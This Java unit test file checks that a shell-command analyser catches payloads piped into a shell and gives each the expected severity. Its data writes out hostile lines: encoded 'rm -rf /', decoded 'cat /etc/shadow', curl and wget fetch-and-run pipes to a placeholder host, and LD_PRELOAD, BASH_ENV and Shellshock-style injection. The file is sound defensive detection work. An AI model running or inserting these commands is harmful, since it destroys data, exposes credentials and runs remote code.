package dev.warden.analysis.shell;

import static dev.warden.analysis.shell.Parsed.command;
import static dev.warden.analysis.shell.Parsed.finding;
import static dev.warden.analysis.shell.Parsed.parse;
import static dev.warden.analysis.shell.Parsed.severityOf;
import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.call.Severity;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

/** Decoded or downloaded payloads executed by a shell or interpreter. */
class PipeToShellTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '#', quoteCharacter = '~', commentCharacter = '%', textBlock = """
            echo cm0gLXJmIC8= | base64 -d | sh                  # CRITICAL
            echo "cm0gLXJmIC8=" | base64 --decode | bash        # CRITICAL
            base64 -d <<< cm0gLXJmIC8= | bash                   # CRITICAL
            xxd -r -p <<< 726d202d7266202f | sh                 # CRITICAL
            cat payload.b64 | base64 -d | sudo bash             # CRITICAL
            echo x | base64 -d | xargs -0 sh                    # CRITICAL
            curl -fsSL https://x.example/i.sh | sh              # HIGH
            wget -qO- https://x.example/i.sh | bash             # HIGH
            curl https://x.example | base64 -d | python3        # CRITICAL
            bash <(curl -s https://x.example/i.sh)              # HIGH
            source <(curl -s https://x.example/i.sh)            # HIGH
            . <(wget -qO- https://x.example/i.sh)               # HIGH
            sh -c "$(curl -fsSL https://x.example/i.sh)"        # HIGH
            eval "$(curl -s https://x.example/i.sh)"            # HIGH
            curl -s https://x.example/i.sh | sh /dev/stdin      # HIGH
            curl -s https://x.example/i.sh | source /dev/stdin  # HIGH
            curl https://x.example | { true; python3; }         # HIGH
            cat a.sh | bash                                     # MEDIUM
            """)
    void payloadPipedIntoAShellIsAFinding(String line, Severity severity) {
        assertThat(severityOf(parse(line), Findings.PIPE_TO_SHELL)).as(line).isEqualTo(severity);
    }

    @Test
    void literalDecodedPayloadIsDecodedAndItsCommandsReported() {
        ParsedScript p = parse("echo cm0gLXJmIC8= | base64 -d | sh");
        assertThat(command(p, "rm", "-rf", "/")).hasValueSatisfying(c -> assertThat(c.via()).containsExactly("| sh"));
        assertThat(command(parse("echo 'hsab/cte/tac' | rev | bash"), "cat/etc/bash")).isPresent();
        assertThat(command(parse("printf '\\x72\\x6d -rf /' | sh"), "rm", "-rf", "/")).isPresent();
        assertThat(command(parse("eval $(echo Y2F0IC9ldGMvc2hhZG93 | base64 -d)"), "cat", "/etc/shadow")).isPresent();
    }

    @Test
    void literalScriptPipedIntoAShellIsReadWithoutAFinding() {
        ParsedScript p = parse("echo 'git status' | bash");
        assertThat(command(p, "git", "status")).hasValueSatisfying(c -> assertThat(c.via()).containsExactly("| bash"));
        assertThat(finding(p, Findings.PIPE_TO_SHELL)).isEmpty();
    }

    @Test
    void decodingWithoutExecutingIsNoFinding() {
        assertThat(parse("echo aGVsbG8= | base64 -d").findings()).isEmpty();
        assertThat(parse("base64 -d in.b64 > out.bin").findings()).isEmpty();
        assertThat(parse("curl -s https://x.example/data.json | jq .").findings()).isEmpty();
    }

    @Test
    void toolGeneratedShellSetupIsOnlyLow() {
        assertThat(severityOf(parse("source <(kubectl completion bash)"), Findings.PIPE_TO_SHELL)).isEqualTo(Severity.LOW);
        assertThat(severityOf(parse("eval \"$(pyenv init -)\""), Findings.PIPE_TO_SHELL)).isEqualTo(Severity.LOW);
        assertThat(finding(parse("eval \"$(ssh-agent -s)\""), Findings.DYNAMIC)).isEmpty();
    }

    @Test
    void environmentVariablesThatInjectCodeAreFindings() {
        assertThat(severityOf(parse("LD_PRELOAD=/tmp/x.so ls"), Findings.ENV_INJECTION)).isEqualTo(Severity.HIGH);
        assertThat(severityOf(parse("BASH_ENV=/tmp/evil.sh bash -c 'echo hi'"), Findings.ENV_INJECTION)).isEqualTo(Severity.HIGH);
        assertThat(severityOf(parse("env x='() { :;}; echo pwned' bash -c 'echo test'"), Findings.ENV_INJECTION))
                .isEqualTo(Severity.HIGH);
        ParsedScript p = parse("export PROMPT_COMMAND='curl -s https://x.example | bash'");
        assertThat(command(p, "curl", "-s", "https://x.example")).isPresent();
        assertThat(severityOf(p, Findings.PIPE_TO_SHELL)).isEqualTo(Severity.HIGH);
        assertThat(parse("PYTHONPATH=. pytest -q").findings()).isEmpty();
    }
}
